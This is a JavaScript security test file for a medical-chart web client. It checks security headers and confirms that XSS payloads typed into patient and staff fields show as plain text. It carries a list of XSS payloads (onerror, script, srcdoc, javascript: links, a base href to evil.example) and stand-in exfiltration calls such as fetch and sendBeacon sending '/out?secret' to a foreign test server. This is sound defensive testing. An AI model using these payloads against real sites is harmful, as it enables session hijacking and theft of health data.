/**
 * What a person, a stranger or a server's file could try to run in the page: nothing of it runs, and what
 * looks like a page is text. The headers are those that galend really sends.
 */
import assert from "node:assert/strict";
import { readFileSync, readdirSync } from "node:fs";
import { createServer, request } from "node:https";
import { join } from "node:path";
import test, { after, before } from "node:test";
import { top, until } from "./_load.mjs";
import { missing, Scene } from "./_scene.mjs";

const skip = missing() ?? false;
const WAIT = { timeout: 20_000 };
/** Each text says which it is, runs if it is taken for a page, and is told apart from others' by its number. */
const texts = [];
const bad = (what) => {
    const ways = [
        (n) => `<img src=x onerror="ran(${n})">`, (n) => `<script>ran(${n})</script>`, (n) => `<svg onload=ran(${n})>`,
        (n) => `"><iframe srcdoc="<script>parent.ran(${n})</script>">`, (n) => `<a href="javascript:ran(${n})">press</a>`,
        (n) => `'-ran(${n})-'{{ran(${n})}}`, (n) => `</textarea><body onpageshow=ran(${n})>`,
    ];
    const number = texts.length;
    texts.push(`${what} ${ways[number % ways.length](number)}`);
    return texts[number];
};

let scene, web, chart, medicine, action, paula, rosa, strange, strangeUrl;

/* Before the page's own script: what ran, and what the policy stopped. */
function listen() {
    globalThis.flags = [];
    globalThis.ran = (what) => globalThis.flags.push(what);
    globalThis.violations = [];
    addEventListener("securitypolicyviolation", (e) => globalThis.violations.push(`${e.effectiveDirective} ${e.blockedURI}`));
}

async function arrive(link, profile) {
    const browser = await scene.browser(profile);
    const trouble = [];
    const page = await browser.open(new URL(link).pathname + new URL(link).hash, { before: async (page) => {
        await page.addInitScript(listen);
        page.on("pageerror", (error) => trouble.push(error.message));
        page.on("console", (said) => { if (/error|warning/.test(said.type())) trouble.push(said.text()); });
        page.on("requestfailed", (one) => trouble.push(`failed: ${one.url()}`));
        page.on("response", (one) => { if (one.status() >= 400) trouble.push(`${one.status()}: ${one.url()}`); });
    } });
    page.setDefaultTimeout(WAIT.timeout);
    page.press = (name) => page.getByRole("button", { name }).first().click();
    await page.press("Open my chart");
    await page.getByRole("heading", { name: /^(Hello|My chart|Patients)/ }).waitFor();
    return Object.assign(page, { trouble, chromium: browser });
}
const quiet = async (page) => {
    assert.deepEqual(page.trouble, []);
    assert.deepEqual(await page.evaluate(() => [flags, violations]), [[], []]);
};

before(async () => {
    if (skip) return;
    scene = new Scene();
    web = scene.site(join(top, "web-client/src/main.tsx"));
    await scene.serve(web);
    chart = scene.practice(bad("Rosalind"));
    paula = await arrive(scene.invite("pharmacist", null, bad("Paula")), "paula");
    const account = scene.lines("desk", ["chart", "members", "practice"]).find((m) => m.role === "pharmacist").account;
    scene.galen("desk", ["chart", "add", chart, account]);
    rosa = await arrive(scene.invite("patient", chart, bad("Rosa")), "rosa");

    /* A page of somebody else's, over TLS like ours. */
    strange = createServer({ cert: readFileSync(join(scene.certs, "server.pem")), key: readFileSync(join(scene.certs, "server.key")) },
        (asked, response) => {
            strange.asked.push(asked.url);
            response.writeHead(200, { "content-type": asked.url.endsWith(".js") ? "text/javascript" : "text/html" });
            response.end(asked.url.endsWith(".js") ? "ran('foreign script')" : `<iframe src="${scene.url}/"></iframe>`);
        });
    strange.asked = [];
    await new Promise((resolve) => strange.listen(0, "127.0.0.1", resolve));
    strangeUrl = `https://localhost:${strange.address().port}`;
});
after(async () => {
    strange?.close();
    strange?.closeAllConnections();
    await scene?.end();
});

/* -- what is sent -------------------------------------------------------------------------------------- */

function headersOf(path, method = "GET") {
    return new Promise((resolve, reject) => {
        request(scene.url + path, { family: 4, ca: readFileSync(join(scene.certs, "ca.pem")), method }, (answer) => {
            answer.resume();
            answer.on("end", () => resolve({ status: answer.statusCode, headers: answer.headers }));
        }).on("error", reject).end();
    });
}
/** Everything but what depends on the file. */
const standing = ({ headers }) => Object.fromEntries(Object.entries(headers)
    .filter(([name]) => !/^(etag|content-length|content-type|content-encoding|vary|cache-control|connection|keep-alive|date)$/.test(name)));

test("the headers of every file of the client are exactly the intended ones", { skip }, async () => {
    const intended = {
        "strict-transport-security": "max-age=63072000",
        "content-security-policy": [
            "default-src 'none'", "script-src 'self' 'wasm-unsafe-eval'", "style-src 'self'", "font-src 'self'", "img-src 'self'",
            `connect-src 'self' wss://localhost:${scene.port}`, "worker-src 'self'", "manifest-src 'self'", "media-src 'none'",
            "require-trusted-types-for 'script'", "trusted-types galen-worker", "base-uri 'none'", "form-action 'none'",
            "frame-ancestors 'none'",
        ].join("; "),
        "x-content-type-options": "nosniff",
        "referrer-policy": "no-referrer",
        "cross-origin-opener-policy": "same-origin",
        "cross-origin-embedder-policy": "require-corp",
        "cross-origin-resource-policy": "same-origin",
        "permissions-policy": "microphone=(self), camera=(), accelerometer=(), display-capture=(), geolocation=(), gyroscope=(), " +
            "hid=(), idle-detection=(), magnetometer=(), midi=(), payment=(), serial=(), usb=(), xr-spatial-tracking=()",
    };
    const files = readdirSync(web).filter((name) => !/\.(br|gz)$/.test(name));
    assert.ok(files.length >= 8);
    for (const path of ["/", "/join", ...files.map((name) => `/${name}`)]) {
        const answer = await headersOf(path);
        assert.equal(answer.status, 200, path);
        assert.deepEqual(standing(answer), intended, path);
    }
    const nothing = await headersOf("/nothing");
    assert.equal(nothing.status, 404);
    assert.deepEqual(standing(nothing), {
        ...intended, "permissions-policy": "camera=(), microphone=(), geolocation=()",
        "content-security-policy": "default-src 'none'; frame-ancestors 'none'; base-uri 'none'; form-action 'none'",
    });
});

test("a normal visit is quiet: no error, no warning, nothing blocked, and the page is isolated", { skip }, async () => {
    assert.equal(await rosa.evaluate(() => crossOriginIsolated && isSecureContext && opener === null), true);
    const icon = await rosa.evaluate(async () => {
        const { href } = document.querySelector("link[rel=icon]");
        const image = new Image();
        image.src = href;
        await image.decode();
        return [new URL(href).pathname, image.naturalWidth > 0];
    });
    assert.match(icon[0], /^\/icon-[0-9a-f]{16}\.svg$/);
    assert.equal(icon[1], true);
    await rosa.reload();
    await rosa.getByRole("heading", { name: /^(Hello|My chart)/ }).waitFor();
    for (const page of [rosa, paula]) await quiet(page);
});

/* -- what is written ------------------------------------------------------------------------------------- */

/** What is on the screen, also in fields; a patient's or a pharmacist's way through everything of a chart. */
async function seen(page, heading) {
    await page.getByRole("heading", { level: 1 }).filter({ hasText: heading }).waitFor();
    await page.evaluate(() => { for (const one of document.querySelectorAll("main details")) one.open = true; });
    return page.evaluate(() => document.body.innerText + "\n" +
        [...document.querySelectorAll("input, textarea, select")].map((one) => one.value).join("\n"));
}
/** Nothing that came from a text became an element, and none ran. */
async function onlyText(page) {
    const found = await page.evaluate(() => ({
        flags, violations, title: document.title,
        made: [...document.querySelectorAll("#app img, #app script, #app iframe, #app a:not(.usa-skipnav), #app object, #app [onerror], #app [onload]")]
            .map((one) => one.outerHTML),
    }));
    assert.deepEqual(found, { flags: [], violations: [], title: found.title, made: [] });
    assert.doesNotMatch(found.title, /ran\(/);
}

test("HTML in every text that a person can write is text, for patients and for staff", { skip }, async () => {
    const regimen = ["drug", "strength", "form", "dose", "unit", "route", "frequency"].map((part) => [part, bad(part)]);
    const escaped = regimen.map(([part, text]) => `${part}=${text.replace(/[\\;]/g, "\\$&")}`).join("; ");
    const pmr = { regimen: `${escaped}; as_needed=no`, status: "active", discharge: "not-decided" };
    for (const field of ["reason", "instructions", "prescriber", "pharmacy", "stop_reason", "discharge_why", "taken_as", "effects", "watch_for", "satisfaction"])
        pmr[field] = bad(field);
    const map = { status: "doing" };
    for (const field of ["topic", "action", "goal", "progress"]) map[field] = bad(field);
    const schema = readFileSync(join(top, "protocol/doc/schema.c"), "utf8");
    const fields = [...schema.matchAll(/\{GALEN_(PMR|MAP)_\w+, +"(\w+)", +GALEN_VALUE_(TEXT|WORDING|LINE|REGIMEN)/g)];
    assert.ok(fields.length >= 14);
    for (const [, doc, field] of fields)
        assert.ok(field in (doc === "PMR" ? pmr : map), `${doc} ${field} is a text too: write HTML into it`);
    medicine = scene.galen("desk", ["doc", "set", chart, "pmr", "new"], JSON.stringify(pmr)).record;
    action = scene.galen("desk", ["doc", "set", chart, "map", "new"], JSON.stringify(map)).record;
    assert.ok(medicine && action);
    const message = bad("message"), link = "javascript:ran('link') https://evil.example/ <base href=//evil.example>";
    scene.galen("desk", ["send", chart], message);
    scene.galen("desk", ["send", chart], link);

    /* the identity's note, written by staff in the visit */
    const note = bad("note");
    await paula.press(/^Open Rosa/);
    await paula.press("People and devices");
    await paula.press(/^Check identity of /);
    await paula.getByLabel("name", { exact: true }).check();
    await paula.getByLabel("Something else").fill(note);
    await paula.press("Yes, both are right");

    const all = (...of) => of.flatMap((one) => Object.values(one)).filter((text) => /ran\(/.test(text) && !/drug=/.test(text));
    const expected = {
        messages: [message, link],
        pmr: [...all(pmr), ...regimen.map(([, text]) => text)],
        map: all(map),
        log: [note],
    };
    const goneThrough = async (page, way) => {
        for (const [part, name, open] of way) {
            await page.press(name);
            await seen(page, name);
            await onlyText(page);
            if (open) {
                await page.press(open);
                await page.locator("[data-field]").first().waitFor();
            }
            /* what was said before, of each field, comes a moment later */
            let missing = [];
            await until(`${part} shows all as it is`, async () => {
                const text = (await seen(page, /./)).replace(/\s+/g, " ");
                missing = (expected[part] ?? [page === paula ? texts[2] : texts[1]]).filter((one) => !text.includes(one.replace(/\s+/g, " ")));
                return missing.length === 0;
            }, 10_000).catch((late) => { throw new Error(`${late.message}; not shown: ${missing.join(", ")}`); });
            await onlyText(page);
            if (page === rosa) await page.press("Home");
        }
        await onlyText(page);
    };
    await goneThrough(paula, [["messages", "Messages"], ["pmr", "Medicines", /^Open drug/], ["map", "Action plan", /^Open topic/],
                              ["people", "People and devices"], ["log", "Log"]]);
    await rosa.getByText("What I take, how and why").waitFor();
    await goneThrough(rosa, [["messages", "Messages"], ["pmr", "My medicines", /^See or change drug/], ["map", "My plan", /^See or change topic/],
                             ["people", "People and devices"], ["log", "What was done here"]]);
    for (const page of [rosa, paula]) await quiet(page);
});

test("HTML that is being typed, and HTML that is suggested, is text on the other screen", { skip }, async () => {
    await rosa.press("My medicines");
    await rosa.press(/^See or change drug/);
    await paula.press("Medicines");
    await paula.press(/^Open drug/);
    const draft = bad("draft"), suggestion = bad("suggestion");
    await rosa.press(/How I really take it/);
    await rosa.locator("[data-field=taken_as] textarea").fill(draft);
    await paula.locator(".typing").getByText(draft).waitFor();
    await onlyText(paula);
    await rosa.press(/Suggest a change.*Why I use it/);
    await rosa.locator("[data-field=reason] textarea").fill(suggestion);
    await rosa.press("Send my suggestion");
    await paula.locator(".proposal").getByText(suggestion).waitFor();
    await onlyText(paula);
    await paula.press("Accept");
    await rosa.locator("[data-field=reason]").getByText(suggestion).waitFor();
    for (const page of [rosa, paula]) await quiet(page);
});

/* -- what is tried ---------------------------------------------------------------------------------------- */

/** In the page, as a flaw in it would: what came of it, and which directive stopped it. */
async function tried(page, what, given) {
    const outcome = await page.evaluate(async ([source, given]) => {
        violations.length = flags.length = 0;
        let outcome;
        await new Promise((resolve) => setTimeout(resolve)); // out of the debugger's call, in which eval is allowed
        try {
            await (globalThis.attempts[source])(given);
            outcome = "done";
        } catch (error) {
            outcome = error.name;
        }
        for (let i = 0; i < 20 && violations.length === 0; i++) await new Promise((resolve) => setTimeout(resolve, 10));
        return { outcome, flags: [...flags], stopped: [...new Set(violations.map((v) => v.split(" ")[0]))] };
    }, [what, given]);
    return outcome;
}
function prepareAttempts() {
    const add = (element) => { document.body.append(element); return new Promise((resolve) => setTimeout(resolve, 100)); };
    const element = (name, given) => Object.assign(document.createElement(name), given);
    const make = (name, attributes) => {
        const one = document.createElement(name);
        for (const [attribute, value] of Object.entries(attributes)) one.setAttribute(attribute, value);
        return one;
    };
    globalThis.attempts = {
        /* strings that become code */
        "eval": () => eval("ran('eval')"),
        "new Function": () => new Function("ran('function')")(),
        "setTimeout of a string": () => setTimeout("ran('timeout')"),
        "setInterval of a string": () => setInterval("ran('interval')"),
        "import of data": () => import("data:text/javascript,ran('import')"),
        "import from elsewhere": (url) => import(`${url}/x.js`),
        "a worker from a string": () => new Worker("/worker.js"),
        "a policy of one's own": () => trustedTypes.createPolicy("mine", { createHTML: (s) => s }),
        "the worker's policy a second time": () => trustedTypes.createPolicy("galen-worker", { createScriptURL: (s) => s }),
        /* strings that become a page */
        "innerHTML": () => { document.body.innerHTML += "<img src=x onerror=ran('innerHTML')>"; },
        "outerHTML": () => { document.querySelector("#app").outerHTML = "<img src=x onerror=ran('outerHTML')>"; },
        "insertAdjacentHTML": () => document.body.insertAdjacentHTML("beforeend", "<img src=x onerror=ran('adjacent')>"),
        "document.write": () => document.write("<script>ran('write')</script>"),
        "createContextualFragment": () => document.createRange().createContextualFragment("<script>ran('fragment')</script>"),
        "DOMParser": () => new DOMParser().parseFromString("<script>ran('parser')</script>", "text/html"),
        "srcdoc": () => add(element("iframe", { srcdoc: "<script>parent.ran('srcdoc')</script>" })),
        /* elements */
        "the text of a script": () => { const one = document.createElement("script"); one.append("ran('text')"); return add(one); },
        "a script from elsewhere": (url) => add(make("script", { src: `${url}/x.js` })),
        "a handler as an attribute": () => add(make("img", { src: "/x", onerror: "ran('handler')" })),
        "a foreign frame": (url) => add(make("iframe", { src: url })),
        "a frame of javascript": () => add(make("iframe", { src: "javascript:parent.ran('frame')" })),
        "a javascript link": async () => {
            const one = element("a", { href: "javascript:ran('link')", textContent: "press" });
            await add(one);
            one.click();
        },
        "a style as an attribute": () => add(make("p", { style: "background: red" })),
        "a style element": () => { const one = document.createElement("style"); one.append("main { display: none }"); return add(one); },
        "an object": (url) => add(make("object", { data: url })),
        "a base": (url) => add(make("base", { href: url })),
        "a form": async (url) => { const one = make("form", { action: url, method: "post" }); await add(one); one.submit(); },
        /* what would carry something out */
        "a picture from elsewhere": (url) => add(make("img", { src: `${url}/out?secret` })),
        "a request elsewhere": (url) => fetch(`${url}/out?secret`),
        "a beacon elsewhere": (url) => navigator.sendBeacon(`${url}/out?secret`),
        "a WebSocket elsewhere": (url) => new Promise((_, reject) => {
            new WebSocket(url.replace("https", "wss")).onerror = () => reject(Object.assign(new Error(), { name: "Closed" }));
        }),
    };
}

test("nothing that a flaw in the page could try runs, is shown or gets out", { skip }, async () => {
    await rosa.evaluate(prepareAttempts);
    const TT = "require-trusted-types-for";
    const stops = {
        "eval": ["EvalError", TT], "new Function": ["EvalError", TT],
        "setTimeout of a string": ["TypeError", TT], "setInterval of a string": ["TypeError", TT],
        "import of data": ["TypeError", "script-src-elem"], "import from elsewhere": ["TypeError", "script-src-elem"],
        "a worker from a string": ["TypeError", TT],
        "a policy of one's own": ["TypeError", "trusted-types"], "the worker's policy a second time": ["TypeError", "trusted-types"],
        "innerHTML": ["TypeError", TT], "outerHTML": ["TypeError", TT], "insertAdjacentHTML": ["TypeError", TT],
        "document.write": ["TypeError", TT], "createContextualFragment": ["TypeError", TT], "DOMParser": ["TypeError", TT],
        "srcdoc": ["TypeError", TT],
        "the text of a script": ["done", TT], "a script from elsewhere": ["TypeError", TT],
        "a handler as an attribute": ["TypeError", TT],
        "a foreign frame": ["done", "frame-src"], "a frame of javascript": ["done", "script-src-elem"],
        "a javascript link": ["done", "script-src-elem"],
        "a style as an attribute": ["done", "style-src-attr"], "a style element": ["done", "style-src-elem"],
        "an object": ["TypeError", TT], "a base": ["done", "base-uri"], "a form": ["done", "form-action"],
        "a picture from elsewhere": ["done", "img-src"], "a request elsewhere": ["TypeError", "connect-src"],
        "a beacon elsewhere": ["done", "connect-src"], "a WebSocket elsewhere": ["Closed", "connect-src"],
    };
    assert.deepEqual(Object.keys(stops).sort(), (await rosa.evaluate(() => Object.keys(attempts))).sort());
    const wrong = [];
    for (const [what, [outcome, directive]] of Object.entries(stops)) {
        const found = await tried(rosa, what, strangeUrl);
        if (found.outcome !== outcome || found.flags.length > 0 || !found.stopped.includes(directive))
            wrong.push({ what, ...found });
    }
    assert.deepEqual(wrong, []);
    assert.deepEqual(strange.asked, [], "nothing got out");
    assert.equal(new URL(rosa.url()).origin, scene.url);
});

test("the page cannot be framed, and who opened it has no hold on it", { skip }, async () => {
    const page = await rosa.chromium.context.newPage();
    const trouble = [];
    page.on("console", (said) => trouble.push(said.text()));
    await page.goto(strangeUrl);
    await until("the frame is refused", () => trouble.some((text) => /frame-ancestors|refused to connect|X-Frame-Options/i.test(text)), 10_000);
    for (const frame of page.frames().slice(1)) assert.doesNotMatch(frame.url(), new RegExp(`^${scene.url}`));
    const [opened] = await Promise.all([
        page.waitForEvent("popup"),
        page.evaluate((url) => { globalThis.opened = open(url); }, scene.url),
    ]);
    await opened.getByRole("heading", { level: 1 }).waitFor();
    assert.equal(await opened.evaluate(() => opener), null);
    assert.equal(await page.evaluate(() => globalThis.opened.closed), true, "cut off from the window that opened it");
    await opened.close();
    await page.close();
});
